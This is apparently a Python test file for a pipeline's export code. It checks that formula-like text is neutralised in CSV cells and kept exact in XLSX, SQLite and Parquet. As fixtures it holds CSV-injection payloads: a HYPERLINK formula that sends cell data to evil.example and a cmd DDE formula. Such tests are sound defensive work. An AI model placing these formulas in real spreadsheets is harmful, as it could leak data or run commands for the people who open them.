"""Outputs are safe to open: text that starts like a formula is neutralised in CSV and XLSX cells, while
numbers and dates stay values and SQLite and Parquet keep the exact text (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import sqlite3
from datetime import date
from pathlib import Path

import pytest

from pipeline.export.checklists import Item
from pipeline.export.safe import neutralise
from pipeline.export.tables import Row, write_csv, write_tables
from pipeline.export.words import words
from pipeline.export.xlsx import write_xlsx

from .conftest import AS_OF, run

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ('=cmd|" /C calc"!A0', "'=cmd|\" /C calc\"!A0"),
    ("=", "="),  # the comparator column: a lone sign computes nothing
    ("-", "-"),
    ("各党支部6月30日前报送", "各党支部6月30日前报送"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_export_safe_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def _row() -> Row:
    return {"text": HOSTILE, "comparator": "=", "quantity": -5, "share": -0.5, "due_date": date(2024, 6, 30),
            "section": "@import", "unit": "学时"}


def test_export_safe_csv_cells(tmp_path: Path) -> None:
    columns = list(_row())
    write_csv(tmp_path / "t.csv", columns, [_row()])
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert rows == [{"text": "'" + HOSTILE, "comparator": "=", "quantity": "-5", "share": "-0.5",
                     "due_date": "2024-06-30", "section": "'@import", "unit": "学时"}]


def test_export_safe_xlsx_cells(tmp_path: Path) -> None:
    """XLSX text cells are never formulas (the writer's strings_to_formulas is off), so they keep their text
    exactly, with no quote in front for people to see (issue 18); only the CSV files need that guard."""
    from openpyxl import load_workbook
    row = Item(due_date=date(2024, 6, 30), what=HOSTILE, quantity="-3", unit="学时", page=-1, evidence="+86 10")
    write_xlsx(tmp_path / "c.xlsx", {"机关党委": [row]}, words("en"))
    sheet = load_workbook(tmp_path / "c.xlsx")["机关党委"]
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, (c.value for c in sheet[2])))
    assert values["what"] == HOSTILE and values["how_much"] == "-3学时" and values["evidence"] == "+86 10"
    assert values["page"] == -1 and values["due_date"].date() == date(2024, 6, 30)
    assert all(c.data_type != "f" for c in sheet[2])


def test_export_safe_sqlite_and_parquet_keep_exact_text(tmp_path: Path) -> None:
    import pyarrow.parquet as pq
    columns = list(_row())
    write_tables(tmp_path, {"requirements": (columns, [_row()])}, {})
    con = sqlite3.connect(tmp_path / "notices.db")
    try:
        assert con.execute("SELECT text, section, quantity FROM requirements").fetchone() == (HOSTILE, "@import", -5)
    finally:
        con.close()
    table = pq.read_table(tmp_path / "requirements.parquet").to_pylist()
    assert (table[0]["text"], table[0]["section"], table[0]["quantity"]) == (HOSTILE, "@import", -5)


def test_export_safe_error_rows(tmp_path: Path) -> None:
    """An error row repeats the file's name: a name that starts like a formula is neutralised too."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "=HYPERLINK(1).txt").write_bytes(b"")
    run(inbox, tmp_path / "out", today=AS_OF)
    text = (tmp_path / "out" / "errors.csv").read_text(encoding="utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1][0] == "'=HYPERLINK(1).txt"
